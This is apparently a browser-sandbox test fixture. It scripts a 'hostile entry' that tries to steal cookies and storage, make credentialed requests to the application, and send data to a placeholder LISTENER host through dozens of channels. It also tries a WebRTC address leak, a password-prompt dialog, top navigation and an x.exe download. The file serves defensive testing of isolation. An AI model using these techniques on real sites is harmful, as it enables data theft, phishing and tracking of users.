// What a hostile entry tries. Each attempt ends as "refused …" or as what it got. APP and LISTENER are put in by the test.
const app = "APP/from-the-entry";
const away = "LISTENER/from-the-entry";
// WebRTC asks a server of its choice which address this browser has; CALLED is a port that notes who asks.
const call = `(async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:CALLED" }] }); peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer()); })()`;
const wait = (time) => new Promise((resolve) => setTimeout(resolve, time));

const loads = (element, address) =>
  new Promise((resolve, reject) => {
    element.onload = () => resolve("loaded");
    element.onerror = () => reject(new Error("error event"));
    Object.assign(element, address);
    document.head.append(element);
    setTimeout(() => reject(new Error("nothing happened")), 2000);
  });

const opens = (source) =>
  new Promise((resolve, reject) => {
    source.onopen = () => resolve("opened");
    source.onerror = () => reject(new Error("error event"));
  });

const refusedUnless = (got, what) => {
  if (!got) throw new Error(what);
  return got;
};

const attempts = {
  "read cookies": () => document.cookie,
  "set a cookie": () => { document.cookie = "stolen=1"; return document.cookie; },
  "local storage": () => localStorage.getItem("secret"),
  "session storage": () => sessionStorage.length,
  "databases": () => new Promise((resolve, reject) => { const asked = indexedDB.open("x"); asked.onsuccess = resolve; asked.onerror = reject; }),
  "the application's pages": async () => (await fetch(app, { credentials: "include" })).text(),
  "the application, blindly": () => fetch(app, { credentials: "include", mode: "no-cors" }),
  "a form of the application": () => fetch(`${app}/sign-out`, { method: "POST", credentials: "include", mode: "no-cors" }),
  "another site": () => fetch(away),
  "the content host's other works": () => fetch("/w/another/data.json"),
  "a beacon": () => refusedUnless(navigator.sendBeacon(away, "x") && false, "queued, then refused by the policy"),
  "an image": () => loads(new Image(), { src: away }),
  "a script": () => loads(document.createElement("script"), { src: away }),
  "a sheet": () => loads(document.createElement("link"), { rel: "stylesheet", href: away }),
  "a prefetch": () => loads(document.createElement("link"), { rel: "prefetch", href: away }),
  "a frame": async () => {
    const frame = document.createElement("iframe");
    frame.src = app;
    document.body.append(frame);
    await wait(500);
    return refusedUnless(frame.contentDocument?.body?.textContent, "empty");
  },
  "a socket": () => opens(new WebSocket(away.replace("http", "ws"))),
  "a stream of events": () => opens(new EventSource(away)),
  "an import": () => import(away),
  "an old request": () => new Promise((resolve, reject) => { const ask = new XMLHttpRequest(); ask.open("GET", away); ask.onload = resolve; ask.onerror = () => reject(new Error("error event")); ask.send(); }),
  "a request that outlives the page": () => fetch(away, { method: "POST", body: "x", keepalive: true }),
  "a film": () => loads(document.createElement("video"), { src: away }),
  "an embedded page": () => loads(document.createElement("embed"), { src: away }),
  "an object": () => loads(document.createElement("object"), { data: away }),
  "a picture of a style": async () => { document.body.style.backgroundImage = `url(${away})`; await wait(300); throw new Error("not seen here"); },
  "a font": () => new FontFace("x", `url(${away})`).load(),
  "a look-up ahead": async () => { hint("dns-prefetch"); hint("preconnect"); hint("prerender"); hint("modulepreload"); await wait(300); throw new Error("not seen here"); },
  "rules for pages ahead": async () => {
    const rules = Object.assign(document.createElement("script"), { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [away] }], prerender: [{ urls: [away] }] }) });
    document.head.append(rules);
    await wait(500);
    throw new Error("not seen here");
  },
  "a page within the page": async () => {
    const frame = Object.assign(document.createElement("iframe"), { srcdoc: `<script>fetch("${away}", { mode: "no-cors" }); new Image().src = "${away}";</` + "script>" });
    document.body.append(frame);
    await wait(500);
    throw new Error("not seen here");
  },
  "a call": async () => { await (0, eval)(call); await wait(1500); throw new Error("not seen here"); },
  "a worker": () =>
    new Promise((resolve, reject) => {
      const code = `fetch(${JSON.stringify(away)}).then(() => postMessage("reached"), (error) => postMessage("refused " + error))`;
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      worker.onmessage = ({ data }) => (data.startsWith("refused") ? reject(new Error(data)) : resolve(data));
      worker.onerror = () => reject(new Error("no worker"));
    }),
  "a service worker": () => navigator.serviceWorker.register("sw.js"),
  "the page around": () => parent.document.title,
  "the page around, by its frames": () => top.frames[0].document.title === "" || top.document.body.innerHTML,
  "the window's address": async () => { top.location.href = away; await wait(300); throw new Error("still here"); },
  "a new window": () => refusedUnless(window.open(away), "null"),
  "a link to a new window": async () => { click({ target: "_blank" }); await wait(300); throw new Error("nothing opened"); },
  "a link to the top": async () => { click({ target: "_top" }); await wait(300); throw new Error("still here"); },
  "a download": async () => { click({ href: URL.createObjectURL(new Blob(["x"])), download: "x.exe" }); await wait(300); throw new Error("nothing came"); },
  "sending a form": async () => {
    const form = Object.assign(document.createElement("form"), { action: app, method: "post", target: "_top" });
    document.body.append(form);
    form.submit();
    await wait(300);
    throw new Error("still here");
  },
  "a dialog": () => refusedUnless(confirm("Give me your password?"), "no dialog"),
  "the camera": () => navigator.mediaDevices.getUserMedia({ video: true }),
  "the place": () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
};

function hint(rel) {
  document.head.append(Object.assign(document.createElement("link"), { rel, href: away }));
}

function click(how) {
  const link = Object.assign(document.createElement("a"), { href: away, ...how });
  document.body.append(link);
  link.click();
}

const late = () => wait(4000).then(() => { throw new Error("no answer"); });

async function note([name, attempt]) {
  try {
    window.outcomes[name] = `got ${await Promise.race([attempt(), late()])}`;
  } catch (error) {
    window.outcomes[name] = `refused: ${error}`;
  }
}

window.outcomes = {};
Promise.all(Object.entries(attempts).map(note)).then(() => { window.finished = true; });
